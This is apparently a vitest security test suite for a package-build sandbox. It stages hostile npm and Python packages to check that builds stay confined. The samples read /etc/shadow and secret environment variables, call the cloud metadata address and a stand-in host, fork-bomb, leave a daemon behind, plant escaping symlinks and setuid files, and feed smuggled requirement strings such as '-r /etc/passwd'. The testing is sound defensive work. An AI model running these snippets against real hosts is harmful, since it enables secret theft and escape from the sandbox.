import { execFile, execFileSync } from "node:child_process";
import { existsSync, globSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { promisify } from "node:util";
import { DEFAULT_LIMITS } from "@plastron/contracts";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { NodePackage } from "./testing/registry.ts";
import { INDEX, type Stage, stage } from "./testing/stage.ts";

const isRoot = process.getuid?.() === 0;
const hasSetuptools = globSync("/usr/share/python-wheels/setuptools-*.whl").length > 0;
const LIMITS = { ...DEFAULT_LIMITS, wall_ms: 30_000 };
const BUILD_MS = 180_000;

const script = (code: string) => ({ scripts: { postinstall: "node evil.js" }, files: code });
const evilNode = (name: string, code: string): NodePackage => ({
  ...{ name, version: "1.0.0", manifest: { hasInstallScript: true, scripts: script(code).scripts } },
  files: { "index.js": "module.exports = 1", "evil.js": code },
});
const NODE_PACKAGES: NodePackage[] = [
  { name: "leaf", version: "1.0.0", files: { "index.js": "module.exports = 'leaf 1.0.0'" } },
  evilNode(
    "evil-script",
    `const fs = require("fs"); const seen = ["/root", "/etc/shadow", "/home", "/work"].filter((path) => { try { fs.statSync(path).isDirectory() ? fs.readdirSync(path) : fs.readFileSync(path); return true } catch { return false } });
     console.log("SAW", JSON.stringify(seen), Object.keys(process.env).filter((name) => /secret|token/i.test(name)).length);
     try { fs.writeFileSync("/usr/bin/evil", "x"); console.log("WROTE") } catch (error) { console.log("usr", error.code) }`,
  ),
  evilNode("evil-escape", `require("fs").symlinkSync("/etc", require("path").join(__dirname, "../out"))`),
];

describe.runIf(isRoot)("[needs: root] packages that attack", () => {
  let on: Stage;
  beforeAll(async () => {
    on = await stage(NODE_PACKAGES);
    writeFileSync("/root/.plastron-images-bait", "bait");
  }, 60_000);
  afterAll(async () => {
    execFileSync("rm", ["-f", "/root/.plastron-images-bait"]);
    await on?.close();
  });
  const nothingLeft = () => readdirSync(join(on.state, "images")).filter((name) => name.startsWith("unfinished"));

  describe.runIf(hasSetuptools)("while they are built", () => {
    const READER =
      "found = []\nfor path in ['/root/.plastron-images-bait', '/etc/shadow', '/proc/1/environ']:\n    try: open(path).read(); found.append(path)\n    except OSError: pass\nprint('READ', found, [name for name in os.environ if 'SECRET' in name], file=sys.stderr)\n";
    it(
      "read nothing of the host",
      async () => {
        const outside = execFileSync("/usr/bin/python3", ["-c", `import os, sys\n${READER.replace("sys.stderr", "sys.stdout")}`], { encoding: "utf8" });
        expect(outside).toContain("/root/.plastron-images-bait");
        on.hostile("evil-reader", READER);
        process.env.PLASTRON_TEST_SECRET = "1";
        await expect(on.python("evil-reader")).resolves.toBeTruthy();
        delete process.env.PLASTRON_TEST_SECRET;
        // pip shows what a build printed only where it fails.
        on.hostile("evil-teller", `${READER}sys.exit(1)\n`);
        await expect(on.python("evil-teller")).rejects.toMatchObject({ code: "packages_failed" });
        expect(on.said()).toContain("READ [] []");
      },
      BUILD_MS,
    );

    it(
      "reach the registry and nothing else",
      async () => {
        const to = (host: string, port: number) => `(${JSON.stringify(host)}, ${port})`;
        const targets = [
          to("127.0.0.1", on.world.http),
          to("api.test", on.world.http),
          to("169.254.169.254", 80),
          to(INDEX, on.world.http),
          to("192.0.2.1", 443),
        ];
        const code = `import socket\nfor to in [${targets.join(", ")}, ${to(INDEX, on.registry.port)}]:\n    try:\n        s = socket.create_connection(to, 5); s.settimeout(5); s.sendall(b'GET /stolen HTTP/1.1\\r\\nHost: packages.test:${on.registry.port}\\r\\n\\r\\n'); print('GOT', to, s.recv(12), file=sys.stderr)\n    except OSError as error: print('NOT', to, error, file=sys.stderr)\n`;
        const here = code.replaceAll("sys.stderr", "sys.stdout").replace(`[${targets.join(", ")}, `, `[${targets[0]}, `);
        const { stdout: outside } = await promisify(execFile)("/usr/bin/python3", ["-c", `import sys\n${here}`]);
        expect(outside).toContain(`GOT ('127.0.0.1', ${on.world.http}) b'HTTP/1.1 200'`);
        const before = on.world.reached.length;
        on.hostile("evil-caller", `${code}sys.exit(1)\n`);
        await expect(on.python("evil-caller")).rejects.toMatchObject({ code: "packages_failed" });
        expect(on.said().match(/GOT .*200/g)).toBeNull();
        expect(on.said()).toMatch(/GOT .'packages.test'.* b'HTTP\/1.1 404'/);
        expect(on.world.reached.length).toBe(before);
      },
      BUILD_MS,
    );

    it(
      "fork no bomb, fill no memory, and leave no process",
      async () => {
        on.hostile(
          "evil-bomb",
          "import signal, time\nkids = []\ntry:\n    while True:\n        kid = os.fork()\n        if kid == 0: time.sleep(600)\n        kids.append(kid)\nexcept OSError as error:\n    for kid in kids: os.kill(kid, signal.SIGKILL)\n    print('BOMB', len(kids), error.errno, file=sys.stderr)\nsys.exit(1)\n",
        );
        await expect(on.python("evil-bomb")).rejects.toMatchObject({ code: "packages_failed" });
        expect(Number(/BOMB (\d+) 11/.exec(on.said())?.[1])).toBeLessThan(512);
        on.hostile(
          "evil-daemon",
          "import time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        null = os.open('/dev/null', os.O_RDWR)\n        for fd in (0, 1, 2): os.dup2(null, fd)\n        os.closerange(3, 1000)\n        os.execv('/usr/bin/sleep', ['plastron-evil-daemon', '600'])\n    os._exit(0)\n",
        );
        await on.python("evil-daemon");
        const left = globSync("/proc/[0-9]*/cmdline").filter((file) => {
          try {
            return readFileSync(file, "utf8").startsWith("plastron-evil-daemon");
          } catch {
            return false;
          }
        });
        expect(left).toEqual([]);
      },
      BUILD_MS,
    );

    it(
      "plant no link that leads out, and no program with another's rights",
      async () => {
        const plant = (what: string) => `os.makedirs('/workspace/tree', exist_ok=True)\n${what}`;
        on.hostile("evil-link", plant("os.path.lexists('/workspace/tree/out') or os.symlink('/etc', '/workspace/tree/out')\n"));
        await expect(on.python("evil-link")).rejects.toThrow(/a link that leads out: "out"/);
        expect(nothingLeft()).toEqual([]);
        on.hostile(
          "evil-steps",
          plant(
            "os.makedirs('/workspace/tree/a/b', exist_ok=True)\nfor name, to in [('a/b/c', '../..'), ('a/b/d', 'c/../../etc')]:\n    os.path.lexists('/workspace/tree/' + name) or os.symlink(to, '/workspace/tree/' + name)\n",
          ),
        );
        await expect(on.python("evil-steps")).rejects.toThrow(/does not stay inside: "a\/b\/d"/);
        on.hostile(
          "evil-setuid",
          plant(
            "open('/workspace/tree/suid', 'w').write('#!/bin/sh\\nid -u')\ntry: os.chmod('/workspace/tree/suid', 0o6755)\nexcept OSError: os.chmod('/workspace/tree/suid', 0o755)\n",
          ),
        );
        const image = await on.python("evil-setuid");
        const found = execFileSync("find", [join(on.state, "images", image.id), "-perm", "/7022"], { encoding: "utf8" });
        expect(found.split("\n").filter((path) => path.endsWith("suid"))).toEqual([]);
        on.hostile("evil-fifo", plant("os.path.exists('/workspace/tree/pipe') or os.mkfifo('/workspace/tree/pipe')\n"));
        await expect(on.python("evil-fifo")).rejects.toThrow(/neither a file, a directory nor a link/);
      },
      BUILD_MS,
    );

    it(
      "end when their time is over or nobody waits, and leave nothing",
      async () => {
        on.hostile("evil-sleeper", "import time\ntime.sleep(600)\n");
        const slow = on.build({ from: "python3", requirements: "evil-sleeper" }, { wall_ms: 12_000 });
        await expect(slow).rejects.toThrow(/timed_out/);
        const leave = new AbortController();
        const left = on.build({ from: "python3", requirements: "evil-sleeper" }, { signal: leave.signal });
        setTimeout(() => leave.abort("the client went away"), 2_000);
        await expect(left).rejects.toThrow(/the client went away/);
        expect(nothingLeft()).toEqual([]);
        expect(existsSync(join(on.state, "egress-build"))).toBe(false);
      },
      BUILD_MS,
    );

    it(
      "say another lock than they were asked for, and get that one alone",
      async () => {
        const honest = await on.python("leaf==2.0");
        // The code of a package, while versions are chosen, writes into the report what another tenant's lock will say.
        const lie = JSON.stringify([
          { download_info: { archive_info: { hashes: { sha256: /sha256:([0-9a-f]+)/.exec(honest.lock)?.[1] } } }, metadata: { name: "leaf", version: "2.0" } },
        ]);
        on.hostile(
          "evil-liar",
          `import threading, time\nif os.fork() == 0:\n    os.setsid()\n    for _ in range(400):\n        time.sleep(0.01)\n        try: open('/workspace/report.json', 'w').write('{"install": ' + ${JSON.stringify(lie)} + '}')\n        except OSError: pass\n    os._exit(0)\n`,
        );
        const told = await on.python("evil-liar").catch((error: Error) => error.message);
        if (typeof told !== "string")
          expect([honest.lock_sha256, on.driver.images?.list().find(({ id }) => id === told.id)?.lock_sha256]).toContain(told.lock_sha256);
        const again = await on.python("leaf==2.0");
        expect(again.id).toBe(honest.id);
        const ran = await on.use.python("import leaf; print(leaf.VALUE)", { image: again.id, limits: LIMITS });
        expect(ran.stdout).toBe("leaf 2.0\n");
      },
      BUILD_MS,
    );
  });

  it(
    "read and write nothing by an install script of npm, and plant no link",
    async () => {
      const image = await on.node({ "evil-script": "1" });
      expect(on.said()).toContain("SAW [] 0");
      expect(on.said()).toContain("usr EROFS");
      expect(on.said()).not.toContain("WROTE");
      expect(image.packages).toHaveLength(1);
      await expect(on.node({ "evil-escape": "1" })).rejects.toThrow(/a link that leads out/);
    },
    BUILD_MS,
  );

  it(
    "shadow neither the standard library nor the platform's worker",
    async () => {
      const image = await on.python("shadow");
      const code = "import json, sys, os; print(json.dumps([1]), 'sitecustomize' in sys.modules, os.path.exists('/workspace/sitecustomize-ran'))";
      for (const imports of [[], ["json"]]) expect((await on.use.python(code, { image: image.id, limits: LIMITS, imports })).stdout).toBe("[1] True True\n");
      const { pools } = on.driver.status();
      expect(pools.filter(({ source }) => source === "zygote")).toEqual([]);
    },
    BUILD_MS,
  );

  it(
    "run code of a .pth file in the sandbox of who asked for it alone",
    async () => {
      const image = await on.python("pth");
      expect((await on.use.python("import os; print(os.path.exists('/workspace/pth-ran'))", { image: image.id, limits: LIMITS })).stdout).toBe("True\n");
      expect((await on.use.python("import os; print(os.path.exists('/workspace/pth-ran'))", { limits: LIMITS })).stdout).toBe("False\n");
    },
    BUILD_MS,
  );

  it(
    "do not leave the tree by an archive's names",
    async () => {
      await on.python("escape").then(
        (image) => expect(execFileSync("find", [join(on.state, "images", image.id), "-name", "escaped*"], { encoding: "utf8" })).toBe(""),
        (error: Error) => expect(error.message).toMatch(/installer ended/),
      );
      expect(globSync("/{,tmp/,usr/,usr/lib/}escaped.py")).toEqual([]);
    },
    BUILD_MS,
  );

  it("may come with a hundred thousand files", async () => {
    const image = await on.python("many");
    expect(image.files).toBeGreaterThan(100_000);
    const ran = await on.use.python("import many, os; print(len(os.listdir(os.path.dirname(many.__file__) + '/many_data')))", {
      image: image.id,
      limits: LIMITS,
    });
    expect(ran.stdout).toBe("100000\n");
    await on.driver.images?.remove(image.id).catch(() => {});
  }, 400_000);

  describe("a registry that", () => {
    it(
      "sends other bytes than it said is refused by the digest",
      async () => {
        on.registry.broken.set("files/leaf-1.0", "lies");
        await expect(on.python("leaf==1.0")).rejects.toThrow(/hash|HASH/i);
        on.registry.broken.set("files/leaf-1.0", "truncates");
        await expect(on.python("leaf==1.0")).rejects.toMatchObject({ code: "packages_failed" });
        on.registry.broken.clear();
        on.npm.broken.set("leaf", "lies");
        await expect(on.node({ leaf: "1" })).rejects.toMatchObject({ code: "packages_failed" });
        on.npm.broken.clear();
        await expect(on.python("leaf==1.0")).resolves.toBeTruthy();
      },
      BUILD_MS,
    );

    it(
      "does not answer is waited for no longer than the build may take",
      async () => {
        on.registry.broken.set("simple/leaf", "hangs");
        const begun = Date.now();
        await expect(on.build({ from: "python3", requirements: "leaf" }, { wall_ms: 8_000 })).rejects.toThrow(/timed_out/);
        expect(Date.now() - begun).toBeLessThan(20_000);
        on.registry.broken.clear();
      },
      BUILD_MS,
    );
  });

  it(
    "are not asked for by place: of URLs, files, options and indexes of the caller's nothing reaches the installer",
    async () => {
      const before = on.registry.reached.length;
      for (const line of [
        "--index-url http://elsewhere.test/",
        "leaf @ http://elsewhere.test/x.whl",
        "git+http://elsewhere.test/x",
        "./leaf",
        "/etc/passwd",
        "-r /etc/passwd",
        "-e .",
        "leaf --config-settings=x=y",
        "leaf; python_version>'3' --index-url=x",
        "file:///etc",
      ])
        await expect(on.python(line), line).rejects.toMatchObject({ code: "invalid_request" });
      for (const range of ["http://elsewhere.test/x.tgz", "file:../x", "git+ssh://x/y", "user/repo", "link:../x", "npm:@x/y@http://z"])
        await expect(on.node({ leaf: range }), range).rejects.toMatchObject({ code: "invalid_request" });
      expect(on.registry.reached.length).toBe(before);
    },
    BUILD_MS,
  );
});
